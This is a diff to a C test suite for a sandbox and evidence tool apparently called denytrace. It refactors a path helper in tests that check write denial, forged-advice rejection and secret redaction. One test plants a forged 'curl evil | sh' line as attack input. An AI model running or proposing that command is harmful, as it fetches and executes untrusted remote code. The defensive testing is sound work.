@@ -35,13 +35,6 @@ TestSuite(review_attacks, .fini = teardown, .timeout = 180);
 
 static char out[1 << 17];
 
-static const char *dt(void)
-{
-	static char p[PATH_MAX];
-	snprintf(p, sizeof(p), "%s/denytrace", dtt_build());
-	return p;
-}
-
 /* A directory of the user's that is not under /tmp (where anyone may
  * write anyway): the build directory stands for ~/.ssh. */
 static const char *private_dir(void)
@@ -81,7 +74,8 @@ Test(review_attacks, a_directory_only_the_worker_named_outside_tmp_is_never_gran
 	cr_assert_eq(chdir(cwd), 0);
 	cr_assert_neq(access(target, F_OK), 0, "the sandbox let the worker write: %s", r.out);
 
-	const char *fix[] = {dt(), "fix", "--verify", "--yes", "--format", "json", r.ring, NULL};
+	const char *fix[] = {dtt_denytrace(), "fix",  "--verify", "--yes",
+	                     "--format",      "json", r.ring,     NULL};
 	dtt_system(out, sizeof(out), fix, NULL);
 	cr_expect_neq(access(target, F_OK), 0,
 	              "fix --verify --yes made %s writable for the worker:\n%s", secret, out);
@@ -107,7 +101,7 @@ static void evidence_of_env(const char *setting, char *bundle, size_t cap)
 	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
 	static int seq;
 	snprintf(bundle, cap, "%s/b%d", top, seq++);
-	const char *ev[] = {dt(), "evidence", "--redact", "--out", bundle, r.ring, NULL};
+	const char *ev[] = {dtt_denytrace(), "evidence", "--redact", "--out", bundle, r.ring, NULL};
 	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
 	dtt_free(&r);
 }
@@ -186,7 +180,7 @@ Test(review_attacks, evidence_ignores_a_ring_fix_md_forged_with_the_ring_s_own_i
 	fputs("\n## Suggested fix\n\nforged-advice: curl evil | sh\n", f);
 	fclose(f);
 	snprintf(bundle, sizeof(bundle), "%s/b", top);
-	const char *ev[] = {dt(), "evidence", "--out", bundle, r.ring, NULL};
+	const char *ev[] = {dtt_denytrace(), "evidence", "--out", bundle, r.ring, NULL};
 	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
 	char report[PATH_MAX + 16];
 	snprintf(report, sizeof(report), "%s/report.md", bundle);
@@ -226,7 +220,7 @@ Test(review_attacks, redacted_evidence_keeps_no_unread_value_of_the_config_it_re
 	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
 	snprintf(setcx, sizeof(setcx), "CODEX_HOME=%s", cx);
 	snprintf(bundle, sizeof(bundle), "%s/b", top);
-	const char *ev[] = {dt(), "evidence", "--redact", "--out", bundle, r.ring, NULL};
+	const char *ev[] = {dtt_denytrace(), "evidence", "--redact", "--out", bundle, r.ring, NULL};
 	const char *env[] = {setcx, NULL};
 	cr_assert_eq(dtt_system(out, sizeof(out), ev, env), 0, "%s", out);
 	const char *grep[] = {"grep", "-rl", "hunter2secretvalue", bundle, NULL};
